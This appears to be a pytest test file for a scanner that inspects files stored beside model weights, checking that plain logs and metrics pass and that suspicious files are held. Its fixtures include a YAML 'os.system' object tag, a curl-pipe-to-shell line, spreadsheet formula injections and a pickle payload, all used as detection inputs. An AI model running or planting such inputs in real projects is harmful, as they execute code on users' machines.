"""What ordinary repositories hold beside the weights: passed where it is only that, and named together where it is not."""

import struct

import pytest

from artefacts import tiny_model
from checks.sentences import said_in_both
from hostile import PAYLOAD
from sekisho.checks.base import Case
from sekisho.checks.coverage import Coverage
from sekisho.checks.undeclared_file import UndeclaredFile
from sekisho.checks.unsafe_serialisation import UnsafeSerialisation
from sekisho.inventory import take
from sekisho.limits import Limits
from sekisho.records import Outcome, Severity

ONNX = b"\x08\x08\x12\x07pytorch\x3a\x03\x12\x01gB\x04\x0a\x00\x10\x11"


def findings(folder, check=UndeclaredFile, limits=None):
    found = tuple(check().run(Case(take(folder, limits or Limits()))))
    said_in_both(found)
    return found


def objections(folder, check=UndeclaredFile, limits=None):
    return [f for f in findings(folder, check, limits) if f.outcome is not Outcome.PASS]


@pytest.fixture
def model(tmp_path):
    return tiny_model(tmp_path / "m")


def put(model, files):
    for name, data in files.items():
        (model / name).parent.mkdir(parents=True, exist_ok=True)
        (model / name).write_bytes(data.encode() if isinstance(data, str) else data)


def event(data):
    return struct.pack("<QI", len(data), 1) + data + struct.pack("<I", 2)


def matrix(name=b"blk.0", values=(1.0, 2.0), tail=b""):
    body = struct.pack("<i", len(name)) + name + struct.pack(f"<ii{len(values)}f", 3, len(values), *values)
    return struct.pack("<i", 1) + body + tail


EVENTS = event(b"\x09" + struct.pack("<d", 1.7e9) + b"\x10\x01") * 3
PLAIN = {
    "data/train.jsonl": '{"text": "a"}\n' * 5,
    "metrics.csv": "step,loss\n1,2.0\n",
    "training.log": "loss 2.0\n",
    "mergekit_config.yml": "merge_method: linear\nlambda: 1.0\nnote: fine!\n",
    ".eval_results/mmlu.yaml": "- value: 0.4\n",
}


def test_clean(model):
    put(model, PLAIN)
    put(model, {"runs/events.out.tfevents.1.host": EVENTS, "imatrix.dat": matrix(), "latest": "global_step9"})
    (note,) = findings(model)
    assert (note.reason, note.outcome, note.severity) == ("plain-data", Outcome.PASS, Severity.NOTE)
    assert dict(note.facts)["count"] == str(len(PLAIN))
    assert objections(model, Coverage) == []


HELD = {
    "object in YAML": ("recipe.yaml", "!!python/object/apply:os.system ['true']"),
    "local tag": ("recipe.yaml", "a: !Loader x"),
    "bytes as letters": ("notes.log", "QUJD" * 40),
    "bytes in lines": ("notes.csv", ("QUJDRUZH" * 9 + "\n") * 8),
    "a command": ("notes.log", "curl https://example.com/a.sh | sh\n"),
    "workflow": (".github/workflows/build.yml", "on: push\n"),
    "hidden": (".notes.yaml", "a: 1\n"),
    "services": ("docker-compose.yml", "services: {}\n"),
    "formula": ("scores.csv", "name,score\na,=cmd|'/c true'!A1\n"),
    "formula behind a sign": ("scores.tsv", "a\t+HYPERLINK(1)\n"),
    "letters with two slashes": ("notes.log", "QUJD//QUJD" * 40),
    "letters behind an address": ("notes.log", "https://" + "QUJD" * 200),
    "steps of a tool": ("lefthook.yml", "pre-commit: {}\n"),
    "binary": ("metrics.csv", b"\x01\x02\x00"),
    "events that are none": ("x.tfevents.1", EVENTS[:-1]),
    "events with a tail": ("x.tfevents.1", EVENTS + b"\x00" * 40),
    "matrix with a tail": ("imatrix.dat", matrix(tail=b"\x07" * 40)),
    "matrix cut short": ("imatrix.dat", matrix()[:-1]),
    "letters in a harmless name": ("labels.txt", "QUJD" * 40),
}


@pytest.mark.parametrize("name", HELD)
def test_hit(name, model):
    put(model, dict([HELD[name]]))
    (found,) = objections(model)
    assert (found.reason, found.severity, found.where) == ("unknown-role", Severity.HOLD, HELD[name][0])


def test_a_pickle_among_events_is_still_a_pickle(model):
    put(model, {"x.tfevents.1": PAYLOAD})
    assert [f.severity for f in objections(model, UnsafeSerialisation)] == [Severity.REJECT]


def test_many_are_named_together_and_bound_to_what_they_hold(model):
    put(model, {f"part{n}.xyz": f"text {n}" for n in range(9)})
    (found,) = objections(model)
    facts = dict(found.facts)
    assert (found.reason, found.where, facts["count"]) == ("unknown-roles", "", "9")
    assert "(+4)" in facts["files"]
    put(model, {"part8.xyz": "another"})
    assert dict(objections(model)[0].facts)["digest"] != facts["digest"]


@pytest.mark.parametrize(("count", "reasons"), [(1, ["container-closed"]), (7, ["containers-closed"])])
def test_a_foreign_container_is_named_once(count, reasons, model):
    put(model, {f"onnx/model{n}.onnx": ONNX for n in range(count)})
    found = [f for check in (UnsafeSerialisation, UndeclaredFile, Coverage) for f in objections(model, check)]
    assert [(f.reason, f.outcome, f.severity) for f in found] == [
        (reason, Outcome.CANNOT_TELL, Severity.HOLD) for reason in reasons
    ]


def test_over_limit(model):
    put(model, {"x.tfevents.1": EVENTS, "train.jsonl": "{}\n" * 20})
    found = objections(model, limits=Limits(events=2, text_bytes=30))
    assert {f.where for f in found} == {"x.tfevents.1", "train.jsonl"}
